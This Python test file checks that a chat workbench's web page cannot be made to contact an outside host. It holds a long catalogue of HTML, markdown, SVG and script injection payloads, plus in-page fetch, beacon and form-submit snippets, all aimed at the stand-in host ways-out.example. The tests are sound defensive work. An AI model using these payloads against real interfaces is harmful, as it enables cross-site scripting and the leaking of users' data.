"""Text from outside is text: nothing in a message, an answer or a name makes the page ask another host for anything.

Every way out that is known is tried in every place that shows such text. The browser's own list of requests is the
judge, and a twin shows that it sees what would leave.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import pages, pictures

HOST = "http://ways-out.example"
WAYS = (
    "![picture]({0}/1.png)",
    "![picture]({0}/2.png 'title')",
    "[![inside a link]({0}/3.png)]({0}/4)",
    "![reference][out]\n\n[out]: {0}/5.png",
    "<img src={0}/6.png>",
    '<img srcset="{0}/7.png 1x, {0}/8.png 2x">',
    '<picture><source srcset="{0}/9.webp"><img></picture>',
    '<img src=x onerror="fetch(`{0}/10`)">',
    '<video src="{0}/11.mp4" autoplay></video>',
    '<video poster="{0}/12.png"></video>',
    '<audio src="{0}/13.mp3" autoplay></audio>',
    '<video><track default src="{0}/14.vtt"></video>',
    '<link rel="stylesheet" href="{0}/15.css">',
    '<link rel="prefetch" href="{0}/16">',
    '<link rel="preconnect" href="{0}"><link rel="dns-prefetch" href="{0}">',
    '<link rel="modulepreload" href="{0}/17.js"><link rel="preload" as="image" href="{0}/18.png">',
    '<link rel="icon" href="{0}/19.png"><link rel="manifest" href="{0}/20.json">',
    "<style>@import url({0}/21.css); body {{ background: url({0}/22.png) }}</style>",
    '<div style="background: url({0}/23.png)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>',
    '<meta http-equiv="refresh" content="0; url={0}/24">',
    '<base href="{0}/">',
    '<form action="{0}/25" method="post"><input name="x" value="chat"><button>Go</button></form>',
    '<iframe src="{0}/26"></iframe><iframe srcdoc="<img src={0}/27.png>"></iframe>',
    '<object data="{0}/28"></object><embed src="{0}/29">',
    '<svg><image href="{0}/30.png"/><use href="{0}/31.svg#a"/></svg>',
    '<svg><style>@import "{0}/32.css";</style><script href="{0}/33.js"/></svg>',
    '<svg><filter><feImage href="{0}/34.png"/></filter><a xlink:href="{0}/35"><text>x</text></a></svg>',
    '<math><mi href="{0}/36">x</mi><maction actiontype="statusline" xlink:href="{0}/37">y</maction></math>',
    '<script src="{0}/38.js"></script><script>new Image().src = "{0}/39.png"</script>',
    '<script type="module">import "{0}/40.js"</script>',
    '<a href="{0}/41" ping="{0}/42">link</a>',
    '<body background="{0}/43.png"><table background="{0}/44.png"><tr><td>x</td></tr></table>',
    '<input type="image" src="{0}/45.png"><button formaction="{0}/46">x</button>',
    "$\\href{{{0}/47}}{{x}}$ $\\includegraphics{{{0}/48.png}}$ $$\\url{{{0}/49}}$$",
    "\\(\\htmlStyle{{background:url({0}/50.png)}}{{x}}\\) \\[\\class{{a}}{{\\href{{{0}/51}}{{y}}}}\\]",
    "```mermaid\nflowchart LR\n  A[<img src='{0}/52.png'>] --> B\n  click A href '{0}/53'\n```",
    "```html\n<img src={0}/54.png>\n```",
    "```svg\n<svg><image href='{0}/55.png'/></svg>\n```",
    "<{0}/56> {0}/57 www.ways-out.example/58 [link]({0}/59 'title')",
    "[javascript](javascript:fetch('{0}/60')) [data](data:text/html,<script>fetch('{0}/61')</script>)",
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==)",
    "![relative](//ways-out.example/62.png) ![path](/../../63.png)",
    "| ![cell]({0}/64.png) | <img src={0}/65.png> |\n|---|---|\n| <img src={0}/66.png> | x |",
    "- [ ] ![task]({0}/67.png)\n> ![quote]({0}/68.png)\n\n# ![title]({0}/69.png)",
    "<!-- <img src={0}/70.png> --> <![CDATA[<img src={0}/71.png>]]> <?xml-stylesheet href='{0}/72.css'?>",
    "</div></div><img src={0}/73.png> \" onload=\"fetch('{0}/74')\" x='",
    "${{fetch('{0}/75')}} {{{{{{value}}}}}} `${{new Image().src='{0}/76.png'}}`",
    "<details open ontoggle=\"fetch('{0}/77')\"><summary>x</summary></details><svg onload=\"fetch('{0}/78')\">",
)
EVERYTHING = "\n\n".join(WAYS).format(HOST)
NAME = "<img src=x onerror=alert(1)> ![x](http&colon;ways-out.example) ${1} $x^2$ %2F #frag.png"
FORBIDDEN = (
    "img[srcset], iframe, object, embed, form, base, link[rel=prefetch], meta[http-equiv], svg image, style, script"
)


class Outside:
    """Every request of a page that leaves the server, whether it would have come through or not."""

    def __init__(self, me: pages.Person) -> None:
        self.me = me
        self.requests: list[str] = []
        me.page.on("request", lambda request: self._add(request.url))
        me.page.on("popup", lambda popup: self._add(f"popup {popup.url}"))
        me.page.on("console", lambda line: self._add(line.text) if "Content Security Policy" in line.text else None)

    def _add(self, url: str) -> None:
        if not url.startswith((self.me.url, "data:", "blob:")):
            self.requests.append(url)


@pytest.fixture(scope="module")
def oddly_named(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("odd") / NAME
    pictures.picture("red", "circle", (256, 256)).save(path, "PNG")
    return path


def words_of_blocks(page: Any) -> Iterator[str]:
    """What the Cache tab shows of each block, opened one after the other."""
    cells = page.locator("#cache button.cell")
    cells.first.wait_for()
    for number in range(cells.count()):
        cells.nth(number).click()
        page.locator(f"#cache button.cell >> nth={number}").and_(page.locator('[aria-pressed="true"]')).wait_for()
        yield page.locator("#cache .details .text").text_content()


def test_no_way_out_of_a_message_an_answer_or_a_name(person, workbench_url, model_says, oddly_named, artifacts):
    model_says(EVERYTHING)
    me = person(workbench_url).arrive()
    outside = Outside(me)
    me.page.set_default_timeout(90_000)  # a prompt of thousands of tokens
    me.set("System prompt", "\n".join(WAYS[:9]).format(HOST))
    me.page.locator("#settings .toggle-button").click()
    me.drop(oddly_named)
    me.send(EVERYTHING)
    me.finished()
    page = me.page
    assert page.locator("#chat .turn").locator(FORBIDDEN).count() == 0
    sources = page.locator("#chat .turn img").evaluate_all("all => all.map(image => image.src)")
    assert all(source.startswith((me.url, "data:image/")) for source in sources)
    assert page.locator("#chat .words .text").evaluate("node => node.textContent") == EVERYTHING
    # Gradio's upload has left out some signs of the name.
    assert page.locator("#chat .medium figcaption").inner_text().startswith("img src=x onerror=alert(1) [x]")
    page.locator("#chat .picture").click()  # its name again, as a title
    page.locator(".lightbox .seen:not([hidden])").wait_for()
    page.keyboard.press("Escape")
    page.locator("#chat .receipt summary").click()
    page.locator("#chat .receipt img").first.wait_for()
    covered = page.evaluate("document.elementFromPoint(innerWidth / 2, 20).closest('#header, #tabs') !== null")
    assert covered, "something lies over the page"
    me.shoot(artifacts / "ways-out.png")

    page.get_by_role("tab", name="Cache").click()  # its strips and blocks hold words of the prompt
    page.locator("#cache .lane .bar").first.click()
    assert any("<img src=" in words for words in words_of_blocks(page)), "no block has shown what was sent"
    page.get_by_role("tab", name="Video").click()
    page.get_by_role("button", name="moving circle").click()
    page.locator("#video .pair").first.wait_for()
    page.get_by_label("Question").fill(EVERYTHING)
    page.get_by_role("button", name="Compare two settings").click()
    page.get_by_role("button", name="Answer both").click()
    page.locator("#video .answer .text").nth(1).wait_for()
    page.wait_for_timeout(300)
    assert outside.requests == []


def test_a_link_is_opened_by_a_click_and_does_not_say_where_it_was(person, workbench_url, model_says):
    model_says(f"See [the page]({HOST}/x) and {HOST}/y and ![a picture]({HOST}/z.png).")
    me = person(workbench_url).arrive()
    me.ask("Hello!")
    links = me.page.locator("#chat .answer a")
    assert links.count() == 3
    for name, value in (("target", "_blank"), ("rel", "noopener noreferrer"), ("referrerpolicy", "no-referrer")):
        assert {link.get_attribute(name) for link in links.all()} == {value}
    with me.page.context.expect_page() as opened:
        links.first.click()
    assert opened.value.url.startswith((HOST, "chrome-error", "about:blank"))
    assert me.page.url.startswith(me.url), "the chat stays"


def test_a_picture_within_an_answer_is_shown(person, workbench_url, model_says, drawn):
    model_says(f"![a circle]({pictures.data_url(drawn().read_bytes())})")
    me = person(workbench_url).arrive()
    me.send("Hello!")
    me.finished()
    assert (
        me.page.locator("#chat .answer img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 256
    )


@pytest.fixture(scope="module")
def from_inside(browser, workbench_url) -> Iterator[pages.Person]:
    """One page for all that is tried from inside: the policy lets none of it change anything."""
    me = pages.Person(browser, workbench_url).arrive()
    yield me
    me.leave()


@pytest.mark.parametrize(
    ("way", "directive"),
    [
        (f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))", "img-src"),
        (f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{HOST}/2'}}))", "frame-src"),
        (
            f"document.head.append(Object.assign(document.createElement('script'), {{src: '{HOST}/3.js'}}))",
            "script-src",
        ),
        (
            "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
            "script",
        ),
        (f"document.body.style.backgroundImage = 'url({HOST}/4.png)'", "img-src"),
        (f"fetch('{HOST}/5').catch(() => {{}})", "connect-src"),
        (f"navigator.sendBeacon('{HOST}/6')", "connect-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')", "script-src"),
        (
            f"(() => {{ const form = document.createElement('form'); form.action = '{HOST}/7';"
            " document.body.append(form); form.submit(); })()",
            "form-action",
        ),
    ],
)
def test_what_got_into_the_page_all_the_same_is_stopped_by_the_policy(from_inside, way, directive):
    """The second fence, tried from inside. The browser refuses each of these, and says so."""
    page = from_inside.page

    def is_refusal(line: Any) -> bool:
        return re.search("Content Security Policy|violates", line.text) is not None and directive in line.text

    with page.expect_console_message(is_refusal):
        page.evaluate(way)
    assert not page.evaluate("window.ran ?? false")
    assert page.url.startswith(from_inside.url)


def test_an_uploaded_script_is_not_run(browser, workbench_url, tmp_path):
    """It comes from this server, so the policy alone would let it run."""
    import httpx

    (path,) = httpx.post(
        f"{workbench_url}/gradio_api/upload", files={"files": ("x.js", b"window.ran = true", "text/javascript")}
    ).json()
    me = pages.Person(browser, workbench_url).arrive()
    try:
        me.page.evaluate(
            """path => new Promise(end => document.head.append(Object.assign(document.createElement('script'),
               {src: `/gradio_api/file=${path}`, onload: end, onerror: end})))""",
            path,
        )
        assert not me.page.evaluate("window.ran ?? false")
    finally:
        me.leave()


def test_without_the_policy_it_would_leave(browser, serve_page, demo_engine, monkeypatch: pytest.MonkeyPatch):
    """The twin: the list of requests sees what leaves a page without the header."""
    from engine.api.http import headers

    monkeypatch.setattr(headers.SafeHeaders, "_add", lambda self, start, hashes: None)
    with serve_page(demo_engine) as url:
        me: Any = pages.Person(browser, url).arrive()
        outside = Outside(me)
        with me.page.expect_request(f"{HOST}/1.png"):
            me.page.evaluate(f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))")
        me.leave()
    with pytest.raises(AssertionError, match=r"1\.png"):
        assert outside.requests == []
